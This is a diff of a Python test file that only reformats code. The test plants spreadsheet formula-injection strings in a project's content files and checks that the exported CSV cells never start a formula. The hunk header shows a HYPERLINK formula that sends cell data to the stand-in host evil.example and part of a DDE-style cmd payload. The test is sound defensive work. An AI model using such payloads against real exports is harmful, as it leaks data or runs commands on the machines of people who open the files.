@@ -23,9 +23,16 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /
 def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
     project = make_project(tmp_path_factory.mktemp("csv"))
     content = project / "content"
-    _replace(content / "events/2022-01-02-first-rally.yml", "title: First rally in Testville", f"title: {json.dumps(FORMULAS[0])}")
-    _replace(content / "events/2022-01-02-first-rally.yml", "summary: People gather in the main square.",
-             f"summary: {json.dumps(FORMULAS[1])}")
+    _replace(
+        content / "events/2022-01-02-first-rally.yml",
+        "title: First rally in Testville",
+        f"title: {json.dumps(FORMULAS[0])}",
+    )
+    _replace(
+        content / "events/2022-01-02-first-rally.yml",
+        "summary: People gather in the main square.",
+        f"summary: {json.dumps(FORMULAS[1])}",
+    )
     _replace(content / "actors/far-union.yml", "name: Far Union", f"name: {json.dumps(FORMULAS[2])}")
     _replace(content / "places/testville.yml", "name: Testville", f"name: {json.dumps(FORMULAS[3])}")
     _replace(content / "places/testville.yml", "longitude: 76.9", "longitude: -76.9")
@@ -41,8 +48,13 @@ def _replace(path: Path, old: str, new: str) -> None:
 
 
 def _cells(files: dict[str, bytes]) -> list[str]:
-    return [cell for name, data in files.items() if name.endswith(".csv")
-            for row in csv.reader(io.StringIO(data.decode())) for cell in row]
+    return [
+        cell
+        for name, data in files.items()
+        if name.endswith(".csv")
+        for row in csv.reader(io.StringIO(data.decode()))
+        for cell in row
+    ]
 
 
 def test_no_csv_cell_starts_a_formula(files: dict[str, bytes]) -> None:
